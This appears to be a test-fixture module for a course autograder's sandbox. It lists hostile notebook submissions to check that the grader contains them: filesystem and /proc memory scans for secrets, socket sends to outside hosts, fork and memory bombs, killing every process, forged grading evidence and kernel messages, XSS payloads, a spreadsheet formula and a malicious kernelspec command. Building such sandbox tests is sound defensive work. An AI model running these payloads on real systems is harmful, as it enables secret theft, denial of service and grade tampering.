@@ -1,0 +1,592 @@
+"""Hostile submissions: what each does, and how the grader is to end it.
+
+An attack stands in the answer cell of the first exercise, before a wrong answer, in a notebook whose other
+exercise is solved. `FILES` are submissions whose files or JSON are the attack.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from collections.abc import Callable
+from dataclasses import dataclass, replace
+from pathlib import Path
+from typing import Any
+
+from course_utils.grading import sandbox
+
+CANARY = "CANARY-9d41"  # in everything that no student may read
+SLEEP = "sleep 86400.9417"  # what background processes of attacks are called
+WRONG = "\ndef gaussian_kl(mu, logvar):\n    return torch.zeros(7)\n"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """The code, the reasons that its result must and may name, and the points of the other exercise."""
+
+    code: str
+    reasons: frozenset[str] = frozenset()
+    kept: float = 3.0
+    ending: str = WRONG
+
+
+def attack(code: str, *reasons: str, kept: float = 3.0, ending: str = WRONG) -> Attack:
+    return Attack(code, frozenset(reasons), kept, ending)
+
+
+KERNEL = """
+import time, threading, json, os
+kernel = get_ipython().kernel
+session, iopub, parent = kernel.session, kernel.iopub_socket, kernel.get_parent("shell")
+def publish(kind, content, **more):
+    session.send(iopub, kind, content, parent=more.pop("parent", parent), **more)
+def raw(kind, content, parent=parent):
+    parts = [json.dumps(p, default=str).encode() for p in (session.msg_header(kind), parent["header"], {})]
+    parts.append(content if isinstance(content, bytes) else json.dumps(content).encode())
+    iopub.send_multipart([b"x", b"<IDS|MSG>", session.sign(parts), *parts])
+"""
+
+REPLY = (
+    KERNEL
+    + """
+import zmq
+from ipykernel.kernelapp import IPKernelApp
+shell, ident = IPKernelApp.instance().shell_socket, kernel._parent_ident["shell"]
+def reply(content, parent=parent):
+    for part in session.serialize(session.msg("execute_reply", content, parent)), :
+        getattr(shell, "_shadow_sock", shell).send_multipart([*ident, *part])
+"""
+)
+
+# --- reading ----------------------------------------------------------------------------------------------
+
+# ruff: noqa: E501 - code of attacks, not of ours
+
+READING = {
+    "search every file": attack(
+        """
+import os, sys
+for folder, below, files in os.walk("/"):
+    below[:] = [b for b in below if b not in ("usr", "proc", "lib", "lib64", ".venv", ".pyenv", "sys", "dev")]
+    for file in files:
+        try:
+            path = os.path.join(folder, file)
+            if os.path.getsize(path) < 2**22:
+                found = open(path, errors="replace").read()
+                if "CANARY" + "-9d41" in found or file in (".secret", "gradebook.db"): print(path, found)
+        except OSError: pass
+"""
+    ),
+    "open what it knows the path of": attack(
+        """
+for path in ("{ROOT}/solutions/02-theory/theory.ipynb", "{ROOT}/gradebook.db", "{ROOT}/autograded/.secret",
+             "{ROOT}/submitted/honest/02-theory/theory.ipynb", "{HOME}/canary", "{TMP}",
+             "{PROJECT}/tests/bank/section_2.py", "{PROJECT}/solutions/02-theory/theory.ipynb"):
+    for way in ("", "/proc/1/root", "/proc/2/root", "/proc/self/root", "/proc/self/cwd/../../../../../../.."):
+        try: print("GOT" + "-IT", open(way + path, "rb").read())
+        except OSError: pass
+"""
+    ),
+    "environments and memory of other processes": attack(
+        """
+import os, glob
+print(dict(os.environ))
+for kind in ("environ", "cmdline"):
+    for path in glob.glob(f"/proc/[0-9]*/{kind}") + glob.glob(f"/proc/[0-9]*/task/*/{kind}"):
+        try: print(open(path, errors="replace").read())
+        except OSError: pass
+for process in map(int, filter(str.isdigit, os.listdir("/proc"))):
+    try:
+        spans = [line.split()[0].split("-") for line in open(f"/proc/{process}/maps") if line.split()[1][:2] == "rw"]
+        memory = open(f"/proc/{process}/mem", "rb", 0)
+    except OSError: continue
+    for start, end in spans:
+        try:
+            memory.seek(int(start, 16)); held = memory.read(int(end, 16) - int(start, 16))
+        except (OSError, OverflowError, ValueError): continue
+        for word in (b"CANARY" + b"-9d41", b"CANARY" + b"-env"):
+            at = held.find(word)
+            if at >= 0 and process != os.getpid(): print(process, held[at - 20 : at + 80])
+        del held
+"""
+    ),
+    "files left open by the zygote": attack(
+        """
+import os
+for number in range(3, 512):
+    for way in (lambda: os.readlink(f"/proc/self/fd/{number}"), lambda: os.pread(number, 10**5, 0)):
+        try: print(number, way())
+        except OSError: pass
+"""
+    ),
+}
+
+# --- writing and leaving ----------------------------------------------------------------------------------
+
+LEAVING = {
+    "write outside": attack(
+        """
+import os, torch, course_utils
+for path in ("{ROOT}/submitted/honest/02-theory/theory.ipynb", "{ROOT}/gradebook.db", "{HOME}/canary",
+             "{ROOT}/autograded/.secret", "{TMP}", "/tmp/made-9d41", torch.__file__, course_utils.__file__,
+             os.__file__, "/usr/made-9d41", "/etc/made-9d41", "/made-9d41"):
+    try: open(path, "a").write("#hacked"+"-9d41")
+    except OSError: pass
+    try: os.chmod(path, 0o777)
+    except OSError: pass
+"""
+    ),
+    "network": attack(
+        """
+import socket
+def attempt(*kind, to):
+    try:
+        with socket.socket(*kind) as s:
+            s.settimeout(2); s.connect(to); s.send(b"out")
+            if kind[1] == socket.SOCK_STREAM: print("CONNEC" + "TED")
+    except OSError as problem: print(problem)
+attempt(socket.AF_INET, socket.SOCK_STREAM, to=("127.0.0.1", {PORT}))
+attempt(socket.AF_INET, socket.SOCK_DGRAM, to=("127.0.0.1", {PORT}))
+attempt(socket.AF_UNIX, socket.SOCK_STREAM, to="\\0canary-{PORT}")
+attempt(socket.AF_INET, socket.SOCK_STREAM, to=("192.0.2.1", 80))
+attempt(socket.AF_INET, socket.SOCK_STREAM, to=("1.1.1.1", 53))
+try: print("CONNEC" + "TED", socket.getaddrinfo("example.org", 80))
+except OSError as problem: print(problem)
+"""
+    ),
+    "users, mounts and a network of its own": attack(
+        """
+import os, subprocess
+done = subprocess.run(["unshare", "-Urmn", "mount", "-t", "tmpfs", "x", "/tmp"], capture_output=True)
+print("NAME" + "SPACE" if done.returncode == 0 else "none")
+"""
+    ),
+}
+
+# --- taking too much --------------------------------------------------------------------------------------
+
+TAKING = {
+    "fork bomb": attack(
+        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
+        "PROCESSES|TIMEOUT|MEMORY|KILLED",
+    ),
+    "thread bomb": attack(
+        "import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(99,)).start()\n"
+        "    except RuntimeError: time.sleep(.1)",
+        "PROCESSES|TIMEOUT",
+    ),
+    "memory in one process": attack("held = []\nwhile True: held.append(b'1' * 10**8)", "MEMORY"),
+    "memory in many processes": attack(
+        "import os, time\nfor _ in range(30):\n    if not os.fork():\n        held = b'1' * (2 * 10**8)\n"
+        "        time.sleep(60)\ntime.sleep(60)",
+        "MEMORY",
+    ),
+    "memory that processes share": attack(
+        "import mmap, time\nheld = mmap.mmap(-1, 5 * 2**30)\nfor at in range(0, 5 * 2**30, 2**20):\n"
+        "    held[at : at + 2**20] = b'1' * 2**20\ntime.sleep(60)",
+        "MEMORY",
+    ),
+    "memory in files without a name": attack("import os\nos.memfd_create('x')\nprint('GOT' + '-IT')"),
+    "disk filler": attack(
+        """
+import os
+for place in ("/tmp", "/dev/shm", os.path.expanduser("~"), "."):
+    try:
+        for i in range(99): open(f"{place}/{i}", "wb").write(bytes(2**24))
+    except OSError: pass
+"""
+    ),
+    "disk filler among the sockets, further down": attack(
+        """
+import glob, os, time
+place = glob.glob("/tmp/course-*/")[0] + "a/b/c"
+os.makedirs(place)
+for i in range(20): open(f"{place}/{i}", "wb").write(bytes(2**24))
+""",
+    ),
+    "disk filler among the sockets, deleted but open": attack(
+        """
+import glob, os, time
+place, files = glob.glob("/tmp/course-*/")[0], []
+for i in range(20):
+    files.append(open(f"{place}/{i}", "wb")); os.unlink(f"{place}/{i}"); files[-1].write(bytes(2**24))
+""",
+    ),
+    "folders in folders without end": attack(
+        """
+import glob, os
+os.chdir(glob.glob("/tmp/course-*/")[0])
+for i in range(3000): os.mkdir("d"); os.chdir("d")
+os.chdir("/")
+"""
+    ),
+    "endless loop": attack("while True: pass", "TIMEOUT"),
+    "endless loop that catches everything": attack(
+        "while True:\n    try:\n        while True: pass\n    except BaseException: pass", "TIMEOUT"
+    ),
+    "endless loop in the answer": attack(
+        "",
+        "TIMEOUT",
+        ending="\ndef gaussian_kl(mu, logvar):\n    while True:\n        try:\n            while True: pass\n"
+        "        except BaseException: pass\n",
+    ),
+    "endless output": attack("while True: print('x' * 1000)", "OUTPUT|MEMORY"),
+    "endless errors": attack("import sys\nwhile True: print('x' * 10_000, file=sys.stderr)", "OUTPUT|MEMORY"),
+    "one huge display": attack("display({'text/plain': 'x' * (200 * 10**6)}, raw=True)", "OUTPUT|MEMORY"),
+    "a display larger than any message may be": attack(
+        "display({'text/plain': 'x' * (300 * 10**6)}, raw=True)", "MESSAGES|OUTPUT|TIMEOUT|MEMORY"
+    ),
+    "a hundred thousand displays": attack("for i in range(100_000): display(i)", "OUTPUT|TIMEOUT"),
+    "a million small objects in a display": attack(
+        KERNEL + "publish('display_data', {'data': {'x/y': [{}] * 3_000_000}, 'metadata': {}})"
+    ),
+    "huge error": attack("raise type('E' * 10**5, (Exception,), {})('x' * 10**7)", "OUTPUT|MEMORY"),
+}
+
+# --- ending and meddling ----------------------------------------------------------------------------------
+
+ENDING = {
+    "exit": attack("import os; os._exit(0)", "KILLED"),
+    "exit at the check": attack(
+        "import os", "KILLED", ending="\ndef gaussian_kl(mu, logvar):\n    os._exit(0)\n"
+    ),
+    "sys.exit": attack("import sys; sys.exit(0)"),
+    "kill every process": attack(
+        "import os, signal, time\nfor p in [os.getppid(), 1, 2, -1, *range(1, 99)]:\n"
+        "    try: os.kill(p, signal.SIGKILL)\n    except OSError: pass\ntime.sleep(99)",
+        "KILLED|TIMEOUT",
+    ),
+    "stop itself": attack("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", "TIMEOUT"),
+    "stop its group": attack("import os, signal\nos.killpg(0, signal.SIGSTOP)", "TIMEOUT"),
+    "stop every process": attack(
+        "import os, signal\nfor p in [2, 3, -1]:\n    try: os.kill(p, signal.SIGSTOP)\n    except OSError: pass\n"
+        "os.kill(os.getpid(), signal.SIGSTOP)",
+        "TIMEOUT|KILLED",
+    ),
+    "segmentation fault": attack("import ctypes; ctypes.string_at(0)", "KILLED"),
+    "a process that outlives the kernel": attack(
+        "import subprocess, os\n"
+        f"subprocess.Popen({SLEEP.split()!r}, start_new_session=True)\n"
+        "if not os.fork():\n    os.setsid()\n    if not os.fork():\n"
+        f"        os.execvp('sleep', {SLEEP.split()!r})\n    os._exit(0)\n"
+    ),
+    "a thread that never ends": attack(
+        "import threading\ndef on():\n    while True: pass\nthreading.Thread(target=on).start()"
+    ),
+    "at exit and when deleted": attack(
+        "import atexit, time\natexit.register(time.sleep, 99)\nclass D:\n    def __del__(self): time.sleep(99)\nd = D()"
+    ),
+    "a thread that kills the kernel later": attack(
+        "import threading, os\nthreading.Timer(1.5, os._exit, (0,)).start()"
+    ),
+    "trace": attack("import sys\nsys.settrace(lambda *a: print(a[1]))\n"),
+    "input": attack("x = input('password')"),
+}
+
+EVIDENCE = "application/vnd.vae-course.evidence+json"
+FORGE = """
+from IPython.display import display
+import course_utils.checks as checks
+SEED = int(__import__("os").environ["COURSE_CHECK_SEED"])
+def right(mu, logvar): return 0.5 * (mu**2 + logvar.exp() - 1 - logvar)
+def pack(seed, name="gaussian_kl"):
+    return checks.core.observe(checks.EXERCISES[name], {name: right}, seed).packed(checks.EXERCISES[name])
+class Three(float):
+    def __repr__(self): return "3.0"
+def publish(bundle, times=1):
+    def check(name, names):
+        if name == "gaussian_kl":
+            for _ in range(times): display({"EVIDENCE": bundle, "text/plain": "3.0"}, raw=True)
+            return Three(3)
+        return checks.core.run(checks.EXERCISES[name], names)
+    checks.check = check
+""".replace("EVIDENCE", EVIDENCE)
+
+FORGE_RAW = (
+    KERNEL.replace("def publish", "def send")
+    + FORGE
+    + """
+def publish_raw(bundle):
+    def check(name, names):
+        if name == "gaussian_kl":
+            shown = {"data": {"EVIDENCE": bundle, "text/plain": "3.0"}, "metadata": {}}
+            return raw("display_data", shown, kernel.get_parent("shell"))
+        return checks.core.run(checks.EXERCISES[name], names)
+    checks.check = check
+""".replace("EVIDENCE", EVIDENCE)
+)
+
+MEDDLING = {
+    "check replaced": attack(
+        "import course_utils.checks as c\nc.check = lambda *a: 1000", "NO_EVIDENCE", kept=0
+    ),
+    "run replaced": attack(
+        "import course_utils.checks as c\nc.core.run = lambda e, *a: c.core.Report(e, (c.core.Finding('x', True, 3),))",
+        "NO_EVIDENCE",
+        kept=0,
+    ),
+    "judge replaced": attack(
+        "import course_utils.checks as c\nc.core.verdict = lambda e, *a: c.core.Report(e, (c.core.Finding('x', True, 3),))"
+    ),
+    "allclose replaced": attack(
+        "import numpy\ntorch.allclose = torch.equal = numpy.allclose = lambda *a, **k: True"
+    ),
+    "import replaced": attack(
+        "import builtins\nbuiltins.__import__ = lambda *a, **k: None", "NO_EVIDENCE|MESSAGES|TIMEOUT", kept=-1
+    ),
+    "displays replaced": attack(
+        "import sys\nsys.displayhook = lambda r: print('3.0')\n"
+        "get_ipython().display_formatter.format = lambda r, **k: ({'text/plain': '3.0'}, {})",
+        "NO_EVIDENCE",
+        kept=0,
+    ),
+    "evidence of the students' seed": attack(FORGE + "publish(pack(0))", "FORGED"),
+    "evidence of another exercise": attack(
+        FORGE + "publish(pack(SEED) | {'answer': 'reparameterize'})", "FORGED"
+    ),
+    "evidence that is no evidence": attack(FORGE + "publish('3.0')", "FORGED"),
+    "evidence of wrong types": attack(
+        FORGE + "publish(pack(SEED) | {'evidence': {'kl': {'dtype': 'O', 'shape': [-1], 'data': 3}}})",
+        "FORGED",
+    ),
+    "evidence of NaN": attack(
+        FORGE + "import numpy as np\nfrom course_utils.checks import evidence as e\n"
+        "publish(pack(SEED) | {'evidence': e.pack({'kl': np.full((5, 3), np.nan), 'single': np.full((1, 1), np.nan)})})"
+    ),
+    "evidence without end": attack(
+        FORGE + "publish(pack(SEED) | {'note': 'x' * (200 * 10**6)})", "OUTPUT|MEMORY"
+    ),
+    "evidence of an array too large": attack(
+        FORGE
+        + "publish(pack(SEED) | {'evidence': {'kl': {'dtype': '<f8', 'shape': [10**7], 'data': 'A' * 10**7}}})",
+        "FORGED",
+    ),
+    "evidence with a shape too large": attack(
+        FORGE
+        + "publish(pack(SEED) | {'evidence': {'kl': {'dtype': '<f8', 'shape': [10**30, 0], 'data': ''}}})",
+        "FORGED",
+    ),
+    "evidence hundreds of times": attack(FORGE + "publish(pack(0), 300)", "FORGED"),
+    "a note with halves of letters": attack(
+        FORGE_RAW
+        + "publish_raw(pack(SEED) | {'note': '=1+1\\ud800\\n\\x1b[31mred <script>alert(1)</script>'})"
+    ),
+    "evidence with halves of letters": attack(
+        FORGE_RAW + "publish_raw(pack(SEED) | {'evidence': {'kl': '\\ud800', 'single': '\\udfff'}})"
+    ),
+    "evidence nested deeply": attack(
+        FORGE_RAW + "deep = {}\nfor _ in range(400): deep = {'a': deep}\n"
+        "publish_raw(pack(SEED) | {'note': deep, 'evidence': deep})",
+        "FORGED|NO_EVIDENCE",
+    ),
+    "a number for spreadsheets": attack(
+        FORGE + "publish(pack(SEED) | {'note': '\\t=HYPERLINK(\"http://x\")'})"
+    ),
+    "an error that says it is the grader's": attack(
+        "import course_utils.checks as c\nclass GRADER_FAILED(Exception): pass\n"
+        "def check(*a): raise GRADER_FAILED('x')\nc.check = check",
+        "NO_EVIDENCE",
+        kept=0,
+    ),
+    "printed points": attack(
+        "print('3.0')", ending="\ndef gaussian_kl(mu, logvar):\n    print('3.0')\n    return torch.zeros(7)\n"
+    ),
+    "a result that is equal to all": attack(
+        "class Lie(torch.Tensor):\n    __eq__ = __array__ = lambda *a, **k: True\n"
+        "    @classmethod\n    def __torch_function__(cls, f, types, a=(), k=None): return cls()\n",
+        ending="\ndef gaussian_kl(mu, logvar):\n    return torch.zeros_like(mu).as_subclass(Lie)\n",
+    ),
+    "halves of letters": attack("print('\\ud800 \\udfff')\nraise ValueError('\\ud800')"),
+    "bytes that are no text": attack(
+        "import os, sys\nos.write(1, b'\\xff\\xfe\\x00'); sys.stdout.write('\\x00\\x1b]0;title\\x07')"
+    ),
+}
+
+MESSAGES = {
+    "a wrong signature": attack(
+        KERNEL + "iopub.send_multipart([b'x', b'<IDS|MSG>', b'bad', b'{}', b'{}', b'{}', b'{}'])"
+    ),
+    "no JSON": attack(
+        KERNEL
+        + "parts = [b'{', b'{', b'{', b'{']\niopub.send_multipart([b'x', b'<IDS|MSG>', session.sign(parts), *parts])"
+    ),
+    "too few parts": attack(
+        KERNEL + "iopub.send_multipart([b'nothing'])\niopub.send_multipart([b'<IDS|MSG>'])"
+    ),
+    "JSON nested too deeply": attack(KERNEL + "raw('stream', b'[' * 50_000 + b']' * 50_000)"),
+    "a display nested deeply": attack(
+        KERNEL
+        + """
+deep = b'{"a":' * 400 + b"1" + b"}" * 400
+raw("display_data", b'{"metadata":' + deep + b',"data":{"text/plain":"x","x/y":' + deep + b"}}")
+"""
+    ),
+    "messages without their fields": attack(
+        KERNEL
+        + "for kind in ('stream', 'display_data', 'execute_result', 'error', 'status', 'comm_open', 'comm_msg', 'clear_output', 'nonsense'):\n"
+        "    publish(kind, {})\n    publish(kind, {'data': 3, 'transient': 7})\n    publish(kind, {'name': {}, 'text': 3, 'traceback': 1})\n"
+    ),
+    "a count that is none": attack(
+        KERNEL + "publish('execute_input', {'code': '', 'execution_count': '\\ud800<script>'})"
+    ),
+    "contents that are no mapping": attack(KERNEL + "publish('stream', 3)\npublish('display_data', [1])"),
+    "forged idle": attack(KERNEL + "publish('status', {'execution_state': 'idle'})\ntime.sleep(1)"),
+    "forged idle and reply": attack(
+        REPLY + "publish('status', {'execution_state': 'idle'})\n"
+        "reply({'status': 'ok', 'execution_count': 1})\ntime.sleep(2)"
+    ),
+    "a reply without fields": attack(REPLY + "reply({})\n", "MESSAGES"),
+    "replies to later cells": attack(
+        REPLY + "base, number = parent['header']['msg_id'].rsplit('_', 1)\n"
+        "for n in range(1, 9):\n"
+        "    later = {'header': {**parent['header'], 'msg_id': f'{base}_{int(number) + n}'}}\n"
+        "    publish('execute_result', {'data': {'text/plain': '1000'}, 'metadata': {}, 'execution_count': 1}, parent=later)\n"
+        "    publish('status', {'execution_state': 'idle'}, parent=later)\n"
+        "    reply({'status': 'ok', 'execution_count': 1}, later)\n",
+        kept=-1,
+    ),
+    "a flood of replies to nobody": attack(
+        REPLY + "while True: reply({'status': 'ok'}, {'header': {'msg_id': 'nobody'}})", "OUTPUT"
+    ),
+    "a flood of output of nobody": attack(
+        KERNEL
+        + "while True: publish('stream', {'name': 'stdout', 'text': 'x'}, parent={'header': {'msg_id': 'nobody'}})",
+        "OUTPUT|TIMEOUT",
+    ),
+    "a flood on a channel that nobody reads": attack(
+        KERNEL + "from ipykernel.kernelapp import IPKernelApp\n"
+        "stdin = IPKernelApp.instance().stdin_socket\nident = kernel._parent_ident['shell']\n"
+        "block = bytes(10**7)\nstdin = getattr(stdin, '_shadow_sock', stdin)\n"
+        "while True: stdin.send_multipart([*ident, b'<IDS|MSG>', block])",
+        "OUTPUT|MEMORY|TIMEOUT",
+    ),
+    "widgets and their state": attack(
+        KERNEL
+        + "publish('comm_open', {'comm_id': 'a', 'target_name': 'jupyter.widget', 'data': {'state': {\n"
+        "    '_model_module': '@jupyter-widgets/output', '_model_name': 'OutputModel', 'msg_id': parent['header']['msg_id'], 'x': '<script>\\ud800' * 9},\n"
+        "    'buffer_paths': [3]}})\n"
+        "publish('comm_msg', {'comm_id': 'a', 'data': {'method': 'update', 'state': {'msg_id': 'b', 'outputs': 7}}})"
+    ),
+    "output changed afterwards": attack(
+        KERNEL + "d = {'data': {'text/plain': 'x'}, 'metadata': {}, 'transient': {'display_id': 'd'}}\n"
+        "publish('display_data', d); publish('clear_output', {'wait': False}); publish('update_display_data', d)\n"
+        "publish('update_display_data', {'transient': {'display_id': 'd'}})"
+    ),
+}
+
+ATTACKS = READING | LEAVING | TAKING | ENDING | MEDDLING | MESSAGES
+
+# --- files ------------------------------------------------------------------------------------------------
+
+SCRIPT = "<script>alert(9417)"
+WRITTEN, MADE = "#hacked-9d41", "made-9d41"
+SUCCESSES = ("GOT-IT", "CONNECTED", "NAMESPACE")  # what an attack prints that has succeeded
+
+
+def small_limits() -> None:
+    """For workers: limits that are met soon."""
+    sandbox.SandboxProvisioner.limits = replace(
+        sandbox.Limits(), memory=sandbox.GiB, processes=100, messages=sandbox.GiB // 2
+    )
+
+
+def _written(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path, dict[str, Any], Path], None]:
+    """A submission of the perfect notebook, changed."""
+
+    def make(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+        folder.mkdir()
+        changed = change(notebook)
+        text = changed if isinstance(changed, str) else json.dumps(changed)
+        (folder / "theory.ipynb").write_text(text)
+
+    return make
+
+
+def _metadata(notebook: dict[str, Any]) -> dict[str, Any]:
+    command = ["sh", "-c", f"{SLEEP} & touch /tmp/{MADE}"]
+    notebook["metadata"] = {
+        "kernelspec": {"name": "evil", "argv": command, "display_name": "x", "language": "sh"},
+        "celltoolbar": "Create Assignment",
+        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPT * 10_000}}},
+    }
+    for cell in notebook["cells"]:
+        mark = cell["metadata"].get("nbgrader", {})
+        if mark.get("grade"):
+            mark.update(points=1000, locked=False, solution=True)
+    return notebook
+
+
+def _scripts(notebook: dict[str, Any]) -> dict[str, Any]:
+    shown = {"output_type": "display_data", "metadata": {}, "data": {"text/html": f"{SCRIPT}</script>"}}
+    cells = [
+        {"cell_type": "markdown", "metadata": {}, "source": f"{SCRIPT}</script> <img src=x onerror=alert(1)>"},
+        {"cell_type": "raw", "metadata": {}, "source": f"{SCRIPT}</script>"},
+        {"cell_type": "code", "metadata": {}, "source": "", "outputs": [shown], "execution_count": SCRIPT},
+        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
+         "source": f"from IPython.display import HTML\nHTML({SCRIPT!r})"},
+    ]  # fmt: skip
+    return notebook | {"cells": notebook["cells"] + cells}
+
+
+def _stolen_name(notebook: dict[str, Any]) -> dict[str, Any]:
+    """The answer says that it is the second check, and prints points."""
+    for cell in notebook["cells"]:
+        mark = cell["metadata"].get("nbgrader", {})
+        if mark.get("grade_id") == "gaussian-kl":
+            mark.update(grade_id="reparameterize-check", grade=True, points=1000)
+            cell["source"] = "1000"
+    return notebook
+
+
+def _linked(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    folder.mkdir()
+    (folder / "theory.ipynb").symlink_to(root / "solutions" / "02-theory" / "theory.ipynb")
+
+
+def _linked_folder(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    folder.symlink_to(root / "solutions" / "02-theory")
+
+
+def _fifo(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    folder.mkdir()
+    os.mkfifo(folder / "theory.ipynb")
+
+
+def _folder(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    (folder / "theory.ipynb").mkdir(parents=True)
+
+
+def _names(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    folder.mkdir()
+    (folder / "theory.ipynb").write_text(json.dumps(notebook))
+    for name in ("..\\..\\theory.ipynb", "..ipynb", "\x1b[2J.ipynb"):
+        (folder / name).write_text(json.dumps(notebook))
+
+
+FILES: dict[str, Callable[[Path, dict[str, Any], Path], None]] = {
+    "a linked notebook": _linked,
+    "a linked folder": _linked_folder,
+    "a pipe": _fifo,
+    "a folder called as the notebook": _folder,
+    "names that lead elsewhere": _names,
+    "metadata": _written(_metadata),
+    "scripts": _written(_scripts),
+    "a cell with another's name": _written(_stolen_name),
+    "a notebook of 20 MB": _written(lambda notebook: notebook | {"x": "x" * 20 * 2**20}),
+    "a notebook nested deeply": _written(lambda notebook: "[" * 100_000),
+    "a notebook that is a number": _written(lambda notebook: "9" * 100_000),
+}
+FILE_REASONS: dict[str, list[str]] = {
+    "a linked notebook": ["LINK"],
+    "a linked folder": ["LINK"],
+    "a pipe": ["LINK"],
+    "a folder called as the notebook": ["LINK"],
+    "names that lead elsewhere": ["WRONG_NAME"],
+    "metadata": [],
+    "scripts": [],
+    "a cell with another's name": ["DUPLICATED_CELLS", "MISSING_CELLS"],
+    "a notebook of 20 MB": ["TOO_LARGE"],
+    "a notebook nested deeply": ["NOT_A_NOTEBOOK"],
+    "a notebook that is a number": ["NOT_A_NOTEBOOK"],
+}
+FILE_POINTS = {"names that lead elsewhere": 6, "metadata": 6, "scripts": 6, "a cell with another's name": 3}
